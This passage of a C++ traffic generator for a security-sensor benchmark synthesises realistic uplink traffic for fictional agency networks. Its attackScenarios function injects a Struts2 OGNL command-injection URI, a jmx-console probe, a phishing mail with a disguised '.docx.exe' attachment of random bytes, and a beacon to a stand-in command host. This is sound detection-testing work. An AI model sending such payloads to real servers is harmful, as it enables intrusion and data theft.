#include "bench/traffic/TrafficGenerator.hpp"

#include <array>
#include <cmath>
#include <cstdio>
#include <limits>
#include <string_view>

namespace gsoc::traffic {
namespace {

constexpr std::array<std::string_view, 24> kWords = {
    "gov", "policy", "report", "budget", "meeting", "press", "release", "minister", "statement", "data",
    "open", "council", "annual", "review", "security", "notice", "public", "comment", "index", "archive",
    "2026", "fiscal", "guideline", "summary"};
constexpr std::array<std::string_view, 4> kAgents = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Microsoft-CryptoAPI/10.0", "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.50"};

void put16(std::string& s, unsigned v) {
  s.push_back(static_cast<char>(v >> 8));
  s.push_back(static_cast<char>(v & 0xff));
}

std::string tlsRecord(std::uint8_t type, std::string_view body) {
  std::string r;
  r.push_back(static_cast<char>(type));
  r.push_back(3);
  r.push_back(3);
  put16(r, static_cast<unsigned>(body.size()));
  r.append(body);
  return r;
}

std::string clientHello(std::string_view sni, std::mt19937_64& rng) {
  std::string sni_ext;
  put16(sni_ext, static_cast<unsigned>(sni.size() + 3));
  sni_ext.push_back(0);
  put16(sni_ext, static_cast<unsigned>(sni.size()));
  sni_ext.append(sni);
  std::string ext;
  put16(ext, 0);
  put16(ext, static_cast<unsigned>(sni_ext.size()));
  ext += sni_ext;
  put16(ext, 10);  // supported groups
  put16(ext, 6);
  put16(ext, 4);
  put16(ext, 29);
  put16(ext, 23);
  put16(ext, 11);  // point formats
  put16(ext, 2);
  ext.push_back(1);
  ext.push_back(0);
  std::string hello;
  put16(hello, 0x0303);
  for (int i = 0; i < 32; ++i) hello.push_back(static_cast<char>(rng()));
  hello.push_back(0);
  put16(hello, 6);
  put16(hello, 0x1301);
  put16(hello, 0x1302);
  put16(hello, 0xc02f);
  hello.push_back(1);
  hello.push_back(0);
  put16(hello, static_cast<unsigned>(ext.size()));
  hello += ext;
  std::string hs = "\x01";
  hs.push_back(0);
  put16(hs, static_cast<unsigned>(hello.size()));
  hs += hello;
  return tlsRecord(22, hs);
}

std::string base64(std::string_view in) {
  static constexpr char kTable[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  for (std::size_t i = 0; i < in.size(); i += 3) {
    const unsigned n = (static_cast<unsigned char>(in[i]) << 16) |
                       (i + 1 < in.size() ? static_cast<unsigned char>(in[i + 1]) << 8 : 0u) |
                       (i + 2 < in.size() ? static_cast<unsigned char>(in[i + 2]) : 0u);
    out += kTable[n >> 18 & 63];
    out += kTable[n >> 12 & 63];
    out += i + 1 < in.size() ? kTable[n >> 6 & 63] : '=';
    out += i + 2 < in.size() ? kTable[n & 63] : '=';
    if (out.size() % 78 == 76) out += "\r\n";
  }
  return out;
}

// A DNS query message: header (recursion desired, one question), then the name and type, class IN.
std::string dnsQuery(unsigned id, const std::string& name, unsigned qtype) {
  std::string query;
  put16(query, id);
  put16(query, 0x0100);
  put16(query, 1);
  put16(query, 0);
  put16(query, 0);
  put16(query, 0);
  std::size_t start = 0;
  for (;;) {
    const std::size_t dot = name.find('.', start);
    const std::string label = name.substr(start, dot == std::string::npos ? std::string::npos : dot - start);
    query.push_back(static_cast<char>(label.size()));
    query += label;
    if (dot == std::string::npos) break;
    start = dot + 1;
  }
  query.push_back(0);
  put16(query, qtype);
  put16(query, 1);
  return query;
}

}  // namespace

TrafficGenerator::TrafficGenerator(std::uint64_t seed, FrameSink sink, std::int64_t start_ns)
    : rng_(seed), sink_(std::move(sink)), now_(start_ns) {}

void TrafficGenerator::emit(const Bytes& frame) {
  now_ += 10'000 + static_cast<std::int64_t>(rng_() % 200'000);
  ++counters_.frames;
  counters_.bytes += frame.size();
  sink_(now_, frame);
}

std::uint16_t TrafficGenerator::ephemeralPort() { return static_cast<std::uint16_t>(49152 + rng_() % 16000); }

TcpConversation TrafficGenerator::connect(const std::string& client, const std::string& server, std::uint16_t port) {
  PacketSpec base;
  base.src = client;
  base.dst = server;
  base.sport = ephemeralPort();
  base.dport = port;
  TcpConversation c(base, static_cast<std::uint32_t>(rng_()), static_cast<std::uint32_t>(rng_()));
  for (const Bytes& f : c.handshake()) emit(f);
  return c;
}

std::string TrafficGenerator::words(std::size_t bytes) {
  std::string s;
  while (s.size() < bytes) {
    s += kWords[rng_() % kWords.size()];
    s += (rng_() % 8 == 0) ? "\n" : " ";
  }
  s.resize(bytes);
  return s;
}

std::string TrafficGenerator::fixedBytes(std::size_t bytes, std::uint64_t seed) {
  std::mt19937_64 rng(seed);
  std::string s(bytes, '\0');
  for (char& c : s) c = static_cast<char>(rng());
  return s;
}

std::string TrafficGenerator::randomBytes(std::size_t bytes) {
  std::string s(bytes, '\0');
  for (char& c : s) c = static_cast<char>(rng_());
  return s;
}

void TrafficGenerator::sendSegmented(TcpConversation& c, bool from_client, std::string_view data) {
  for (std::size_t off = 0; off < data.size(); off += kMss) {
    const std::string_view piece = data.substr(off, kMss);
    emit(from_client ? c.client(piece) : c.server(piece));
    if (off / kMss % 2 == 1) emit(from_client ? c.server("", 0x10) : c.client("", 0x10));  // delayed ACK
  }
}

void TrafficGenerator::httpSession(const std::string& client, const std::string& server, const std::string& host,
                                   const std::string& uri, std::size_t body_bytes, const std::string& user_agent, std::uint16_t port) {
  ++counters_.http_sessions;
  TcpConversation c = connect(client, server, port);
  const std::string agent = user_agent.empty() ? std::string(kAgents[rng_() % kAgents.size()]) : user_agent;
  const std::string request = "GET " + uri + " HTTP/1.1\r\nHost: " + host + "\r\nUser-Agent: " + agent +
                              "\r\nAccept: text/html,application/xhtml+xml,*/*;q=0.8\r\nAccept-Language: ja,en;q=0.5\r\n"
                              "Accept-Encoding: identity\r\nConnection: keep-alive\r\n\r\n";
  sendSegmented(c, true, request);
  const std::string body = "<html><body>" + words(body_bytes > 30 ? body_bytes - 30 : 1) + "</body></html>\n";
  const std::string response = "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: " +
                               std::to_string(body.size()) + "\r\n\r\n" + body;
  sendSegmented(c, false, response);
  emit(c.client("", 0x10));
  for (const Bytes& f : c.close()) emit(f);
}

void TrafficGenerator::tlsSession(const std::string& client, const std::string& server, const std::string& sni, std::size_t app_bytes) {
  ++counters_.tls_sessions;
  TcpConversation c = connect(client, server, 443);
  sendSegmented(c, true, clientHello(sni, rng_));
  std::string server_flight = tlsRecord(22, "\x02" + std::string("\x00\x00\x46", 3) + randomBytes(70));
  server_flight += tlsRecord(20, "\x01");
  server_flight += tlsRecord(23, randomBytes(2800));  // encrypted certificate flight (TLS 1.3)
  sendSegmented(c, false, server_flight);
  std::string client_data = tlsRecord(20, "\x01") + tlsRecord(23, randomBytes(300 + rng_() % 400));
  sendSegmented(c, true, client_data);
  std::string server_data;
  while (server_data.size() < app_bytes) server_data += tlsRecord(23, randomBytes(std::min<std::size_t>(16384, app_bytes - server_data.size() + 17)));
  sendSegmented(c, false, server_data);
  for (const Bytes& f : c.close()) emit(f);
}

void TrafficGenerator::dnsLookup(const std::string& client, const std::string& resolver, const std::string& name) {
  ++counters_.dns_lookups;
  const std::string query = dnsQuery(static_cast<unsigned>(rng_() & 0xffff), name, 1);
  PacketSpec q;
  q.src = client;
  q.dst = resolver;
  q.proto = 17;
  q.sport = ephemeralPort();
  q.dport = 53;
  q.payload = query;
  emit(ethernetFrame(q));
  std::string answer = query;
  answer[2] = static_cast<char>(0x81);
  answer[3] = static_cast<char>(0x80);
  answer[7] = 1;  // one answer
  answer += std::string("\xc0\x0c\x00\x01\x00\x01\x00\x00\x0e\x10\x00\x04", 12);
  answer += std::string({static_cast<char>(203), 0, 113, static_cast<char>(rng_() % 250 + 1)});
  PacketSpec r = q;
  std::swap(r.src, r.dst);
  std::swap(r.sport, r.dport);
  r.payload = answer;
  emit(ethernetFrame(r));
}

void TrafficGenerator::smtpSession(const std::string& client, const std::string& server, const std::string& from, const std::string& to,
                                   const std::string& subject, const std::string& attachment_name, std::size_t attachment_bytes,
                                   std::uint64_t attachment_seed) {
  ++counters_.smtp_sessions;
  TcpConversation c = connect(client, server, 25);
  emit(c.server("220 mx.example.go.jp ESMTP\r\n"));
  emit(c.client("EHLO mail.sender.example\r\n"));
  emit(c.server("250-mx.example.go.jp\r\n250 SIZE 52428800\r\n"));
  emit(c.client("MAIL FROM:<" + from + ">\r\n"));
  emit(c.server("250 2.1.0 Ok\r\n"));
  emit(c.client("RCPT TO:<" + to + ">\r\n"));
  emit(c.server("250 2.1.5 Ok\r\n"));
  emit(c.client("DATA\r\n"));
  emit(c.server("354 End data with <CR><LF>.<CR><LF>\r\n"));
  const std::string message = "From: <" + from + ">\r\nTo: <" + to + ">\r\nSubject: =?UTF-8?B?" + base64(subject) +
                              "?=\r\nMessage-ID: <" + std::to_string(rng_()) + "@sender.example>\r\nMIME-Version: 1.0\r\n"
                              "Content-Type: multipart/mixed; boundary=\"gsoc-b\"\r\n\r\n--gsoc-b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" +
                              words(400) + "\r\n--gsoc-b\r\nContent-Type: application/octet-stream; name=\"" + attachment_name +
                              "\"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"" + attachment_name +
                              "\"\r\n\r\n" + base64(attachment_seed != 0 ? fixedBytes(attachment_bytes, attachment_seed) : randomBytes(attachment_bytes)) + "\r\n--gsoc-b--\r\n.\r\n";
  sendSegmented(c, true, message);
  emit(c.server("250 2.0.0 Ok: queued\r\n"));
  emit(c.client("QUIT\r\n"));
  emit(c.server("221 2.0.0 Bye\r\n"));
  for (const Bytes& f : c.close()) emit(f);
}

void TrafficGenerator::tcpSession(const std::string& client, const std::string& server, std::uint16_t port, std::size_t client_bytes,
                                  std::size_t server_bytes) {
  ++counters_.tcp_sessions;
  TcpConversation c = connect(client, server, port);
  if (client_bytes > 0) sendSegmented(c, true, randomBytes(client_bytes));
  if (server_bytes > 0) sendSegmented(c, false, randomBytes(server_bytes));
  emit(c.client("", 0x10));
  for (const Bytes& f : c.close()) emit(f);
}

void TrafficGenerator::mixed(std::uint64_t bytes, const TrafficMix& mix) {
  auto address = [&](const char* prefix) { return std::string(prefix) + std::to_string(1 + rng_() % 250); };
  std::uniform_real_distribution<double> pick(0.0, mix.http + mix.tls + mix.dns + mix.smtp);
  const std::uint64_t target = counters_.bytes + bytes;
  while (counters_.bytes < target) {
    const double p = pick(rng_);
    const std::string client = address("192.0.2.");
    // External servers stay clear of 203.0.113.0/25, where the attack scenarios' actors live.
    const std::string server = "203.0.113." + std::to_string(130 + rng_() % 120);
    const std::string host = std::string(kWords[rng_() % kWords.size()]) + ".example.com";
    if (p < mix.http) {
      const std::string uri = "/" + std::string(kWords[rng_() % kWords.size()]) + "/" + std::string(kWords[rng_() % kWords.size()]) + ".html";
      httpSession(client, server, host, uri, 500 + rng_() % 60000);
    } else if (p < mix.http + mix.tls) {
      tlsSession(client, server, host, 2000 + rng_() % 120000);
    } else if (p < mix.http + mix.tls + mix.dns) {
      dnsLookup(client, "192.0.2.53", host);
    } else {
      smtpSession(server, "192.0.2.25", "news@" + host, "info@mofa.example.go.jp", "月次報告", "report.pdf", 5000 + rng_() % 40000);
    }
  }
}

void TrafficGenerator::attackScenarios() {
  httpSession("203.0.113.66", "192.0.2.10", "www.mofa.example.go.jp",
              "/struts2/login.action?redirect:%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}", 300);
  httpSession("203.0.113.66", "192.0.2.11", "portal.mofa.example.go.jp", "/jmx-console/HtmlAdaptor?action=inspectMBean", 300);
  smtpSession("203.0.113.90", "192.0.2.25", "joho-kyoyu@freemail.example", "minister-office@mofa.example.go.jp", "資料送付",
              "資料.docx.exe", 24000, 0x5a1d0c);  // the wave's one file, the same at every agency
  dnsLookup("192.0.2.77", "192.0.2.53", "cdn.update-check.example");
  httpSession("192.0.2.77", "203.0.113.66", "cdn.update-check.example", "/news/QUdFTkNZLU1PRkEtSE9TVC0wNzc=.html", 200,
              "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)");
}

}  // namespace gsoc::traffic

// ---- The realistic uplink profile (issue 17) -------------------------------------------------

namespace gsoc::traffic {
namespace {

// Sessions per second of issue 17's reference capture (one agency, 60 s, about 490 MB).
constexpr double kDnsPerSecond = 85'520 / 60.0;
constexpr double kHttpPerSecond = 4'546 / 60.0;
constexpr double kTlsPerSecond = 1'469 / 60.0;
constexpr double kSmtpPerSecond = 485 / 60.0;
constexpr double kOtherPerSecond = 295 / 60.0;
constexpr double kUplinkBytesPerSecond = 728'648.0 * 671 / 60;
constexpr std::int64_t kMs = 1'000'000;

class UplinkBuilder {
 public:
  UplinkBuilder(std::uint64_t seed, const UplinkOptions& options, const TrafficGenerator::FrameSink& sink, std::int64_t start_ns)
      : rng_(seed), sink_(sink), start_(start_ns),
        end_(start_ns + static_cast<std::int64_t>(options.seconds * 1e9)) {
    // Each client counts its source ports up from a random point, as operating systems do, so
    // two lookups of one host are two flows (random ports would collide now and then).
    for (auto& p : ports_) p = static_cast<std::uint16_t>(49152 + rng_() % 16000);
  }

  UplinkCounters run() {
    const double rates[] = {kDnsPerSecond, kHttpPerSecond, kTlsPerSecond, kSmtpPerSecond, kOtherPerSecond};
    double total = 0;
    for (double r : rates) total += r;
    std::exponential_distribution<double> gap(total);
    std::uniform_real_distribution<double> pick(0.0, total);
    std::int64_t t = start_;
    for (;;) {
      t += static_cast<std::int64_t>(gap(rng_) * 1e9);
      if (t >= end_) break;
      flush(t);  // nothing drawn from here on can start before t
      double p = pick(rng_);
      if ((p -= rates[0]) < 0) dns(t);
      else if ((p -= rates[1]) < 0) http(t);
      else if ((p -= rates[2]) < 0) tls(t);
      else if ((p -= rates[3]) < 0) smtp(t);
      else other(t);
    }
    flush(std::numeric_limits<std::int64_t>::max());
    return counters_;
  }

 private:
  struct Pending {
    std::int64_t ts;
    std::uint64_t order;  // ties keep the order frames were built in
    Bytes frame;
  };
  struct Endpoints {
    std::string client;
    std::string server;
    std::vector<std::uint16_t> vlans;
    std::size_t port_slot = 0;
    std::size_t mss = TrafficGenerator::kMss;
    bool v6 = false;
  };

  static bool later(const Pending& a, const Pending& b) { return a.ts != b.ts ? a.ts > b.ts : a.order > b.order; }

  // Queues `frame` at `t` and moves the session's clock on by a microsecond, so one session's
  // frames keep the order they were built in (their sequence and ack numbers assume it). Frames
  // past the end are cut, as a capture window cuts the sessions still open.
  void put(std::int64_t& t, Bytes frame) {
    if (t < end_) {
      heap_.push_back({t, order_++, std::move(frame)});
      std::push_heap(heap_.begin(), heap_.end(), later);
    }
    t += 1000;
  }

  void flush(std::int64_t before) {
    while (!heap_.empty() && heap_.front().ts < before) {
      std::pop_heap(heap_.begin(), heap_.end(), later);
      Pending p = std::move(heap_.back());
      heap_.pop_back();
      write(p.ts, p.frame);
    }
  }

  void write(std::int64_t ts, const Bytes& f) {
    if (ts < last_ts_) ++counters_.out_of_order;
    last_ts_ = ts;
    ++counters_.frames;
    counters_.bytes += f.size();
    std::size_t l2 = 14;
    unsigned type = static_cast<unsigned>(f[12]) << 8 | f[13];
    while (type == 0x8100 || type == 0x88A8) {
      counters_.vlan_frames += l2 == 14 ? 1 : 0;
      type = static_cast<unsigned>(f[l2 + 2]) << 8 | f[l2 + 3];
      l2 += 4;
    }
    if (type == 0x86DD) ++counters_.ipv6_frames;
    if (f.size() <= 64) ++counters_.small_frames;
    if (f.size() - l2 >= 1500) ++counters_.full_frames;
    sink_(ts, f);
  }

  double uniform() { return std::uniform_real_distribution<double>(0.0, 1.0)(rng_); }
  double lognormal(double median, double sigma) { return std::lognormal_distribution<double>(std::log(median), sigma)(rng_); }
  std::size_t sizeDraw(double median, double sigma, std::size_t lo, std::size_t hi) {
    return std::clamp(static_cast<std::size_t>(lognormal(median, sigma)), lo, hi);
  }
  std::int64_t timeDraw(double median_ns, double sigma, std::int64_t lo, std::int64_t hi) {
    return std::clamp(static_cast<std::int64_t>(lognormal(median_ns, sigma)), lo, hi);
  }
  std::int64_t exponentialNs(double mean_s, double cap_s) {
    return static_cast<std::int64_t>(std::min(cap_s, std::exponential_distribution<double>(1.0 / mean_s)(rng_)) * 1e9);
  }
  int count(double mean_extra, int cap) {  // 1 + geometric with that mean
    return 1 + std::min(cap - 1, std::geometric_distribution<int>(1.0 / (1.0 + mean_extra))(rng_));
  }

  std::string noise(std::size_t n) {  // compressed or encrypted content
    std::string s(n, '\0');
    for (std::size_t i = 0; i < n;) {
      std::uint64_t r = rng_();
      for (int k = 0; k < 8 && i < n; ++k, ++i, r >>= 8) s[i] = static_cast<char>(r);
    }
    return s;
  }
  std::string text(std::size_t n) {
    std::string s;
    s.reserve(n + 16);
    while (s.size() < n) {
      s += kWords[rng_() % kWords.size()];
      s += (rng_() % 8 == 0) ? "\n" : " ";
    }
    s.resize(n);
    return s;
  }
  std::string word() { return std::string(kWords[rng_() % kWords.size()]); }

  // 5 % of sessions over IPv6 (MSS 1440, so full frames stay at 1514 bytes), 5 % on a tagged
  // VLAN; internal hosts 192.0.2.1-250 (2001:db8:a::/64), external 203.0.113.130-249.
  Endpoints draw() {
    Endpoints e;
    e.v6 = uniform() < 0.05;
    if (uniform() < 0.05) e.vlans = {static_cast<std::uint16_t>(100 + rng_() % 4)};
    unsigned host = 1 + static_cast<unsigned>(rng_() % 250);
    if (host == 25 || host == 53) ++host;  // the mail server and the resolver
    const unsigned server = 130 + static_cast<unsigned>(rng_() % 120);
    e.port_slot = host + (e.v6 ? 256 : 0);
    e.client = (e.v6 ? "2001:db8:a::" : "192.0.2.") + std::to_string(host);
    e.server = (e.v6 ? "2001:db8:ff::" : "203.0.113.") + std::to_string(server);
    e.mss = e.v6 ? 1440 : TrafficGenerator::kMss;
    return e;
  }
  std::uint16_t port(const Endpoints& e) {
    std::uint16_t& p = ports_[e.port_slot];
    p = static_cast<std::uint16_t>(p >= 65535 ? 49152 : p + 1);
    return p;
  }
  TcpConversation conversation(const Endpoints& e, std::uint16_t dport) {
    PacketSpec base;
    base.src = e.client;
    base.dst = e.server;
    base.sport = port(e);
    base.dport = dport;
    base.vlans = e.vlans;
    return TcpConversation(base, static_cast<std::uint32_t>(rng_()), static_cast<std::uint32_t>(rng_()));
  }
  void handshake(TcpConversation& c, std::int64_t& t, std::int64_t rtt) {
    std::vector<Bytes> hs = c.handshake();
    put(t, std::move(hs[0]));
    t += rtt;
    put(t, std::move(hs[1]));
    put(t, std::move(hs[2]));
  }
  void close(TcpConversation& c, std::int64_t& t, std::int64_t rtt) {
    std::vector<Bytes> fin = c.close();
    put(t, std::move(fin[0]));
    t += rtt;
    put(t, std::move(fin[1]));
    put(t, std::move(fin[2]));
  }
  // `data` one way in MSS-sized segments `gap` apart; the receiver acks every second or third
  // segment and the last (delayed and stretch ACKs, as receive offload makes them), which is
  // where most of an uplink's small frames come from.
  void stream(TcpConversation& c, const Endpoints& e, bool from_client, std::string_view data, std::int64_t& t, std::int64_t gap) {
    std::size_t unacked = 0;
    std::size_t stride = rng_() % 3 == 0 ? 2 : 3;
    for (std::size_t off = 0; off < data.size(); off += e.mss) {
      const std::string_view piece = data.substr(off, e.mss);
      put(t, from_client ? c.client(piece) : c.server(piece));
      t += gap / 2;
      if (++unacked == stride || off + e.mss >= data.size()) {
        put(t, from_client ? c.server("", 0x10) : c.client("", 0x10));
        unacked = 0;
        stride = rng_() % 3 == 0 ? 2 : 3;
      }
      t += gap / 2;
    }
  }
  // A well-formed TLS 1.3 ServerHello (supported_versions, an X25519 key share), so the sensor's
  // TLS parser sees a valid handshake rather than the mixed mode's 70 random bytes.
  std::string serverHello() {
    std::string body;
    put16(body, 0x0303);
    body += noise(32);
    body.push_back(32);
    body += noise(32);  // legacy session id echo
    put16(body, 0x1301);
    body.push_back(0);
    std::string ext;
    put16(ext, 0x002b);
    put16(ext, 2);
    put16(ext, 0x0304);
    put16(ext, 0x0033);
    put16(ext, 36);
    put16(ext, 0x001d);
    put16(ext, 32);
    ext += noise(32);
    put16(body, static_cast<unsigned>(ext.size()));
    body += ext;
    std::string hs = "\x02";
    hs.push_back(0);
    put16(hs, static_cast<unsigned>(body.size()));
    return hs + body;
  }
  std::int64_t rtt() { return timeDraw(20.0 * kMs, 0.7, kMs, 300 * kMs); }
  std::int64_t segmentGap() { return timeDraw(200'000, 0.8, 20'000, 5 * kMs); }

  // A lookup from its own source port; a fifth of them ask for A and then AAAA on the same
  // socket (as glibc's resolver does), so one flow carries two exchanges.
  void dns(std::int64_t t) {
    ++counters_.dns_flows;
    const Endpoints e = draw();
    const std::string name = (rng_() % 3 == 0 ? word() + "-" + std::to_string(rng_() % 100) + "." : std::string()) + word() + "." +
                             word() + (rng_() % 2 ? ".example.com" : ".example.jp");
    const std::uint16_t sport = port(e);
    if (uniform() < 0.22) {
      dnsExchange(e, sport, name, 1, t);
      t += timeDraw(200'000, 0.5, 20'000, 2 * kMs);
      dnsExchange(e, sport, name, 28, t);
    } else {
      dnsExchange(e, sport, name, uniform() < 0.7 ? 1 : (uniform() < 0.85 ? 28 : 65), t);
    }
  }
  void dnsExchange(const Endpoints& e, std::uint16_t sport, const std::string& name, unsigned qtype, std::int64_t& t) {
    const std::string query = dnsQuery(static_cast<unsigned>(rng_() & 0xffff), name, qtype);
    PacketSpec q;
    q.src = e.client;
    q.dst = e.v6 ? "2001:db8:a::53" : "192.0.2.53";
    q.proto = 17;
    q.sport = sport;
    q.dport = 53;
    q.vlans = e.vlans;
    q.payload = query;
    put(t, ethernetFrame(q));
    // The resolver answers from its cache most of the time, else after a round trip outside.
    t += uniform() < 0.7 ? timeDraw(400'000, 0.6, 50'000, 5 * kMs) : timeDraw(30.0 * kMs, 0.9, 2 * kMs, 800 * kMs);
    std::string answer = query;
    answer[2] = static_cast<char>(0x81);
    if (uniform() < 0.04) {
      answer[3] = static_cast<char>(0x83);  // NXDOMAIN
    } else {
      answer[3] = static_cast<char>(0x80);
      unsigned records = 0;
      if (uniform() < 0.3) {  // a CDN alias first
        const std::string target = "\x03" "cdn" "\x07" "example" "\x03" "net";
        answer += std::string("\xc0\x0c\x00\x05\x00\x01\x00\x00\x01\x2c", 10);
        put16(answer, static_cast<unsigned>(target.size() + 1));
        answer += target;
        answer.push_back(0);
        ++records;
      }
      const unsigned addresses = qtype == 65 ? 1 : 1 + static_cast<unsigned>(rng_() % 4);
      for (unsigned i = 0; i < addresses; ++i, ++records) {
        answer += std::string("\xc0\x0c", 2);
        put16(answer, qtype);
        answer += std::string("\x00\x01\x00\x00\x0e\x10", 6);
        const std::size_t len = qtype == 1 ? 4 : (qtype == 28 ? 16 : 12);
        put16(answer, static_cast<unsigned>(len));
        answer += noise(len);
      }
      answer[6] = static_cast<char>(records >> 8);
      answer[7] = static_cast<char>(records);
    }
    PacketSpec r = q;
    std::swap(r.src, r.dst);
    std::swap(r.sport, r.dport);
    r.payload = answer;
    put(t, ethernetFrame(r));
  }

  // HTTP/1.1 with keep-alive: several requests per connection (mean 3), think time between them,
  // a keep-alive idle before the client closes; bodies lognormal (median 3.7 KB, mean about 15 KB).
  void http(std::int64_t t) {
    ++counters_.http_flows;
    const Endpoints e = draw();
    TcpConversation c = conversation(e, 80);
    const std::int64_t r = rtt();
    const std::int64_t gap = segmentGap();
    handshake(c, t, r);
    const std::string host = word() + ".example.com";
    const std::string agent(kAgents[rng_() % kAgents.size()]);
    const int requests = count(2.0, 40);
    for (int i = 0; i < requests; ++i) {
      ++counters_.http_requests;
      const bool post = uniform() < 0.1;
      const std::string form = post ? "q=" + text(sizeDraw(300, 1.0, 10, 8000)) : std::string();
      std::string request = std::string(post ? "POST /" : "GET /") + word() + "/" + word() + (uniform() < 0.5 ? ".html" : ".js") +
                            " HTTP/1.1\r\nHost: " + host + "\r\nUser-Agent: " + agent +
                            "\r\nAccept: */*\r\nAccept-Language: ja,en;q=0.5\r\nAccept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n";
      if (post) request += "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: " + std::to_string(form.size()) + "\r\n";
      request += "\r\n" + form;
      stream(c, e, true, request, t, gap);
      t += r + timeDraw(5.0 * kMs, 1.0, 100'000, 2000 * kMs);
      std::string response;
      if (uniform() < 0.15) {
        response = "HTTP/1.1 304 Not Modified\r\nServer: nginx\r\nETag: \"" + std::to_string(rng_() % 100000) + "\"\r\n\r\n";
      } else {
        const std::size_t size = sizeDraw(3700, 1.7, 40, 8u << 20);
        const bool html = uniform() < 0.4;
        response = "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: " + std::string(html ? "text/html; charset=utf-8" : "image/jpeg") +
                   "\r\nContent-Length: " + std::to_string(size) + "\r\nConnection: keep-alive\r\n\r\n" + (html ? text(size) : noise(size));
      }
      stream(c, e, false, response, t, gap);
      if (i + 1 < requests) t += exponentialNs(0.5, 10);
    }
    t += static_cast<std::int64_t>((1 + 14 * uniform()) * 1e9);  // keep-alive idle
    close(c, t, r);
  }

  // TLS 1.3-shaped: ClientHello with SNI, the server's flight, then request/response exchanges of
  // application data (mean 4) with think times; responses lognormal (median 5 KB, sigma 2: mean about 37 KB).
  void tls(std::int64_t t) {
    ++counters_.tls_flows;
    const Endpoints e = draw();
    TcpConversation c = conversation(e, 443);
    const std::int64_t r = rtt();
    const std::int64_t gap = segmentGap();
    handshake(c, t, r);
    stream(c, e, true, clientHello(word() + "." + word() + ".example.com", rng_), t, gap);
    t += r;
    std::string flight = tlsRecord(22, serverHello());
    flight += tlsRecord(20, "\x01");
    flight += tlsRecord(23, noise(sizeDraw(3000, 0.3, 1500, 8000)));
    stream(c, e, false, flight, t, gap);
    stream(c, e, true, tlsRecord(20, "\x01") + tlsRecord(23, noise(53)), t, gap);
    const int exchanges = count(3.0, 60);
    for (int i = 0; i < exchanges; ++i) {
      stream(c, e, true, tlsRecord(23, noise(sizeDraw(400, 0.8, 60, 16000))), t, gap);
      t += r + timeDraw(5.0 * kMs, 1.0, 100'000, 2000 * kMs);
      const std::size_t size = sizeDraw(5000, 2.0, 100, 16u << 20);
      std::string data;
      data.reserve(size + size / 16384 * 5 + 5);
      for (std::size_t left = size; left > 0;) {
        const std::size_t n = std::min<std::size_t>(16384, left);
        data += tlsRecord(23, noise(n));
        left -= n;
      }
      stream(c, e, false, data, t, gap);
      if (i + 1 < exchanges) t += exponentialNs(1.5, 20);
    }
    t += static_cast<std::int64_t>((0.5 + 9.5 * uniform()) * 1e9);
    close(c, t, r);
  }

  // Inbound mail from an outside MTA to the agency's MX, 80 % with a base64 attachment
  // (lognormal, median 30 KB).
  void smtp(std::int64_t t) {
    ++counters_.smtp_flows;
    Endpoints e = draw();
    std::swap(e.client, e.server);  // the outside MTA connects in
    e.server = e.v6 ? "2001:db8:a::25" : "192.0.2.25";
    TcpConversation c = conversation(e, 25);
    const std::int64_t r = rtt();
    const std::int64_t gap = segmentGap();
    handshake(c, t, r);
    const std::string from = "news@" + word() + ".example.com";
    const std::string to = word() + "@mofa.example.go.jp";
    const char* dialogue[][2] = {{nullptr, "220 mx.example.go.jp ESMTP\r\n"},
                                 {"EHLO mail.sender.example\r\n", "250-mx.example.go.jp\r\n250 SIZE 52428800\r\n"},
                                 {"MAIL FROM", "250 2.1.0 Ok\r\n"},
                                 {"RCPT TO", "250 2.1.5 Ok\r\n"},
                                 {"DATA\r\n", "354 End data with <CR><LF>.<CR><LF>\r\n"}};
    for (const auto& [cmd, reply] : dialogue) {
      if (cmd != nullptr) {
        const std::string line = std::string_view(cmd) == "MAIL FROM" ? "MAIL FROM:<" + from + ">\r\n"
                                 : std::string_view(cmd) == "RCPT TO" ? "RCPT TO:<" + to + ">\r\n"
                                                                       : std::string(cmd);
        put(t, c.client(line));
        t += r;
      }
      put(t, c.server(reply));
      t += r / 2;
    }
    std::string message = "From: <" + from + ">\r\nTo: <" + to + ">\r\nSubject: =?UTF-8?B?" + base64("月次報告") +
                          "?=\r\nMessage-ID: <" + std::to_string(rng_()) + "@sender.example>\r\nMIME-Version: 1.0\r\n"
                          "Content-Type: multipart/mixed; boundary=\"gsoc-b\"\r\n\r\n--gsoc-b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" +
                          text(sizeDraw(1000, 0.8, 100, 20000)) + "\r\n";
    if (uniform() < 0.8) {
      message += "--gsoc-b\r\nContent-Type: application/pdf; name=\"report.pdf\"\r\nContent-Transfer-Encoding: base64\r\n"
                 "Content-Disposition: attachment; filename=\"report.pdf\"\r\n\r\n" +
                 base64(noise(sizeDraw(30000, 1.2, 1000, 10u << 20))) + "\r\n";
    }
    message += "--gsoc-b--\r\n.\r\n";
    stream(c, e, true, message, t, gap);
    t += r;
    put(t, c.server("250 2.0.0 Ok: queued\r\n"));
    put(t, c.client("QUIT\r\n"));
    t += r;
    put(t, c.server("221 2.0.0 Bye\r\n"));
    close(c, t, r);
  }

  // NTP (one exchange) or ICMP echo (1-4 pings a second apart): the uplink's other flows.
  void other(std::int64_t t) {
    ++counters_.other_flows;
    const Endpoints e = draw();
    PacketSpec p;
    p.src = e.client;
    p.dst = e.server;
    p.vlans = e.vlans;
    if (uniform() < 0.6) {
      p.proto = 17;
      p.sport = 123;
      p.dport = 123;
      p.payload = "\x23" + noise(47);
      put(t, ethernetFrame(p));
      t += rtt();
      std::swap(p.src, p.dst);
      p.payload = "\x24" + noise(47);
      put(t, ethernetFrame(p));
      return;
    }
    p.proto = e.v6 ? 58 : 1;
    const int pings = 1 + static_cast<int>(rng_() % 4);
    const std::int64_t r = rtt();
